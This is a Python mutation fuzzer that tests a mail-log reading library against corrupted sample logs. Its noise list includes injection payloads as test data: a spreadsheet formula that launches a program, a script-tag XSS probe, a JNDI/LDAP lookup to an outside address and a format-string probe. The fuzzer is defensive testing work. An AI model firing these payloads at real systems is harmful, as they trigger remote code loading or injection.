"""A mutation fuzzer over the sample logs: whatever a log holds, it is read to the end and every line is accounted for.

Run for longer: `python tests/fuzzing.py --minutes 10 --seed 1`; a case that fails is written to `fuzz-SEED-N.log`.
"""

from __future__ import annotations

import argparse
import ipaddress
import random
import sys
import tempfile
import time
from functools import cache
from pathlib import Path
from typing import TYPE_CHECKING

import polars as pl

if TYPE_CHECKING:
    from collections.abc import Iterator

sys.path.insert(0, str(Path(__file__).parent.parent))

import smtplogs as sl

SAMPLES = Path(__file__).parent.parent / "sample_logs"
TABLES = {"events.csv", "findings.csv", "scenarios.tsv", "truth.json", "ORIGIN.md"}
MOST = 24_000
"""Bytes taken from the head of a sample."""

ROLES = ("records", "context", "dismissed", "not_understood")

NOISE = (
    b"\x00", b"\xff", b"\xed\xa0\x80", b"\x1b[31m", b"\r", b"\t", b'"', b"'", b"\\", b"{", b"}", b"[", b"]", b"(", b")", b"<", b">",
    b": ", b", sasl_username=", b"]: ", b" rhost=192.0.2.66", b"=", b",", b"; ", b"=cmd|' /C calc'!A0", b"<script>alert(1)</script>",
    b"connect from unknown[192.0.2.66]", b"\xe2\x80\xae", b"\xe2\x80\xa8", b"\xc2\x85", b"%s%n", b"${jndi:ldap://192.0.2.66/a}",
    b"message repeated 4294967296 times: [ ", b"-1", b"99999999999999999999", b"nan", b"250-", b"535 ", b"334 ", b"AUTH ", b"--",
)  # fmt: skip


@cache
def corpus() -> dict[str, bytes]:
    """Return the heads of all sample logs, by their names."""
    paths = (p for p in sorted(SAMPLES.rglob("*")) if p.is_file() and p.name not in TABLES and "lab" not in p.parts[-2])
    found = {}
    for path in paths:
        data = path.read_bytes()
        if data[:2] != b"\x1f\x8b":
            found[str(path.relative_to(SAMPLES))] = (
                data if len(data) <= MOST else data[: data.rfind(b"\n", 0, MOST) + 1]
            )
    return found


def mutated(data: bytes, chance: random.Random, others: list[bytes]) -> bytes:
    """Return the data with some of: bytes changed, cut, doubled, noise put in, lines moved, another log put in."""
    for _ in range(chance.randint(1, 12)):
        if not data:
            break
        at, end = sorted(chance.randrange(len(data) + 1) for _ in range(2))
        kind = chance.randrange(9)
        if kind == 0:
            data = data[:at] + bytes([chance.randrange(256)]) + data[at + 1 :]
        elif kind == 1:
            data = data[:at] + data[min(end, at + chance.choice((1, 3, 40, 4000))) :]
        elif kind in (2, 3, 4):
            data = data[:at] + chance.choice(NOISE) * chance.choice((1, 1, 1, 2, 500)) + data[at:]
        elif kind == 5:
            data = data[:at] + data[at : at + 200] * chance.choice((2, 2, 20)) + data[at:]
        elif kind == 6:
            lines = data.split(b"\n")
            chance.shuffle(lines)
            data = b"\n".join(lines)
        elif kind == 7:
            other = chance.choice(others)
            start = chance.randrange(len(other))
            data = data[:at] + other[start : start + chance.choice((30, 300, 3000))] + data[at:]
        else:
            data = data[:at] if chance.random() < 0.5 else data[at:]
    return data


def broken(path: Path, data: bytes) -> str | None:
    """Read a log; return what is not as it must be."""
    start = time.perf_counter()
    events, coverage, traffic = sl.read(path, full=True, year=2026)
    took = time.perf_counter() - start
    if coverage.is_empty():
        return None if not data.strip(b"\0\r\n\t ") or data else "no coverage"
    whole = coverage.filter(pl.col("program").is_null())
    one = whole.row(0, named=True)
    if data and data[:2] not in (b"\xff\xfe", b"\xfe\xff") and one["error"] is None and one["bytes"] != len(data):
        return f"{one['bytes']} bytes counted of {len(data)}"
    if one["kept"] is None:  # several formats fit equally well: it is said, and the file is not read
        return None if (one["error"] or "").startswith("could be ") and events.is_empty() else "not read"
    if sum(one[r] or 0 for r in ROLES) != one["kept"]:
        return f"{[one[r] for r in ROLES]} is not {one['kept']}"
    if events.height and not events["line_no"].is_between(1, one["lines"]).all():
        return "a line that is not there"
    for column in ("client_ip", "server_ip"):
        for text in events[column].drop_nulls().unique():
            try:
                ipaddress.ip_address(text.partition("%")[0])
            except ValueError:
                return f"{column} {text!r}"
    if took > 30:
        return f"{took:.0f} s"
    sl.findings(events, coverage=coverage, traffic=traffic)
    return None


def cases(seed: int) -> Iterator[tuple[str, bytes]]:
    """Yield mutated samples for ever."""
    chance = random.Random(seed)
    logs = corpus()
    others = list(logs.values())
    while True:
        for name in chance.sample(sorted(logs), len(logs)):
            yield name, mutated(logs[name], chance, others)


def main() -> int:
    """Run for some minutes; return how many cases failed."""
    reader = argparse.ArgumentParser(description=__doc__)
    reader.add_argument("--minutes", type=float, default=10)
    reader.add_argument("--seed", type=int, default=int(time.time()))
    given = reader.parse_args()
    end, n, bad = time.monotonic() + given.minutes * 60, 0, 0
    with tempfile.TemporaryDirectory() as folder:
        for name, data in cases(given.seed):
            if time.monotonic() > end:
                break
            path = Path(folder) / Path(name).name
            path.write_bytes(data)
            n += 1
            try:
                told = broken(path, data)
            except Exception as error:
                told = f"{type(error).__name__}: {error}"
            if told:
                bad += 1
                kept = Path(f"fuzz-{given.seed}-{n}.log")
                kept.write_bytes(data)
                print(f"{name}: {told[:300]} -> {kept}", flush=True)  # noqa: T201
    print(f"seed {given.seed}: {n} cases, {bad} failed")  # noqa: T201
    return bad


if __name__ == "__main__":
    sys.exit(1 if main() else 0)
